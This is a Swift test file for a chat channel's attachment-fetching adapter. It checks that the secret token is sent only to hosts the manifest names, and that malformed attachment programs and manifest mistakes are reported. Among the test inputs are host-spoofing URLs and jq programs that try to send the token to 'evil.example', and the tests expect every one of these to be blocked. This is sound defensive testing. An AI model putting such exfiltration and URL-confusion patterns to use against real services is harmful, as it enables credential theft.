import ChannelKit
import InboxDomain
import Testing
import Transport

@testable import ManifestChannel

/// Where a manifest's credentials go, and what it says of attachments that cannot be had.
@Suite struct ManifestAttachmentsTests {
    /// `Testing` has an `Attachment` too.
    private typealias Attached = InboxDomain.Attachment

    private static let now = Instant(milliseconds: 1_772_442_000_000)
    private static let settings: [String: SettingValue] = [
        "token": .secret(Secret("swordfish")), "server": .text("https://chat.example.com/base"),
    ]

    private static func folder(_ program: String, _ more: String = "") throws -> ChannelFolder {
        let folder = try ChannelFolder(
            manifest: ChannelFolder.manifest(
                settings: "token: {type: secret, required: true}\n  server: {type: text}",
                rest:
                    "attachments:\n  program: attachment.jq\n  hosts: [{setting: server}, \"https://*.files.example/\"]\n"
                    + more))
        try folder.write(program, to: "attachment.jq")
        return folder
    }

    private static func step(
        _ program: String, _ attachment: Attached, number: Int = 1, answer: HTTPResponse? = nil
    ) async throws -> AttachmentStep {
        try await folder(program).adapter(settings)
            .attachmentStep(attachment, number: number, answer: answer, now: now)
    }

    private static func code(_ step: AttachmentStep) -> String {
        switch step {
        case .ask(let request): "ask \(request.url)"
        case .get(let request, _): "get \(request.url)"
        case .failed(let failure): failure.code
        }
    }

    private static let bearer = #"{get: {url, headers: {authorization: "Bearer \($settings.token)"}}}"#

    @Test(arguments: [
        "https://chat.example.com/file", "https://CHAT.example.com:443/file", "https://eu.files.example/a?b=c",
    ])
    func aNamedHostGetsTheCredentials(_ url: String) async throws {
        let step = try await Self.step(Self.bearer, Attached(kind: .file, url: url))
        #expect(Self.code(step) == "get \(url)")
    }

    @Test(arguments: [
        "https://chat.example.com.evil.example/", "https://chat.example.com@evil.example/",
        "https://chat.example.com:8443/", "http://chat.example.com/", "https://evil.example\\@chat.example.com/",
        "https://evil.example/https://chat.example.com/", "https://a.b.files.example/", "https://files.example/",
        "http://eu.files.example/", "https://eu.files.example:444/", "https://user@eu.files.example/",
    ])
    func noOtherHostDoes(_ url: String) async throws {
        let step = try await Self.step(Self.bearer, Attached(kind: .file, url: url))
        #expect(Self.code(step) == "host_not_named")
    }

    @Test(arguments: [
        (#"{get: {url: "https://evil.example/?t=\($settings.token)"}}"#, "host_not_named"),
        (#"{ask: {method: "POST", url: "https://evil.example/", json: {t: $settings.token}}}"#, "host_not_named"),
        (#"{get: {url: "https://other.example/plain"}}"#, "get https://other.example/plain"),
    ])
    func elsewhereOnlyWhatIsPlainIsAsked(_ program: String, _ code: String) async throws {
        #expect(Self.code(try await Self.step(program, Attached(kind: .file, ref: "r"))) == code)
    }

    @Test(arguments: [
        ("{missing: \"no_id\"}", "no_id"), ("empty", "attachment_program"), ("1, 2", "attachment_program"),
        ("{}", "attachment_program"), ("error(\"x\")", "attachment_program"), ("{get: \"x\"}", "attachment_program"),
        (#"{get: {url: "ftp://x/"}}"#, "attachment_program"),
        (#"{get: {method: "POST", url: "https://chat.example.com/"}}"#, "attachment_program"),
    ])
    func aProgramThatMakesNoRequestSaysSo(_ program: String, _ code: String) async throws {
        #expect(Self.code(try await Self.step(program, Attached(kind: .file, ref: "r"))) == code)
    }

    @Test func theAnswerBelongsToTheNextStep() async throws {
        let program =
            #"if .step == 1 then {ask: {url: "https://chat.example.com/"}} else {get: {url: .answer.body.url}} end"#
        let attachment = Attached(kind: .file, ref: "r")
        #expect(Self.code(try await Self.step(program, attachment)) == "ask https://chat.example.com/")
        let answer = HTTPResponse(status: 200, body: Array(#"{"url": "https://chat.example.com/2"}"#.utf8))
        let second = try await Self.step(program, attachment, number: 2, answer: answer)
        #expect(Self.code(second) == "get https://chat.example.com/2")
        let refused = try await Self.step(program, attachment, number: 2, answer: HTTPResponse(status: 403))
        #expect(Self.code(refused) == "http_403")
    }

    @Test func onlyTheOriginsOfSettingsAreTrusted() async throws {
        let adapter = try Self.folder(Self.bearer).adapter(Self.settings)
        #expect(adapter.trustedOrigins.map(\.description) == ["https://chat.example.com"])
        #expect(adapter.place(of: Attached(kind: .location, url: "https://chat.example.com/")) == .nowhere)
        #expect(adapter.place(of: Attached(kind: .image, ref: "r")) == .remote)
        #expect(adapter.place(of: Attached(kind: .image)) == .nowhere)
    }

    @Test func aSettingThatIsNoURLIsAnErrorOfTheInbox() throws {
        let folder = try Self.folder(Self.bearer)
        #expect(throws: ChannelConfigurationError.self) {
            try folder.adapter(["token": .text("t"), "server": .text("chat.example.com")])
        }
    }

    @Test(arguments: [
        ("  kinds: [pictures]\n", "must be one of"), ("  delivery: form\n", "exactly one of program and delivery"),
        ("  hots: []\n", "did you mean \"hosts\"?"),
    ])
    func mistakesAreToldWithTheirPlace(_ more: String, _ message: String) throws {
        let problems = try Self.folder(Self.bearer, more).diagnostics()
        #expect(problems.contains { $0.contains(message) && $0.hasPrefix("channel.yaml:") }, "\(problems)")
    }
}
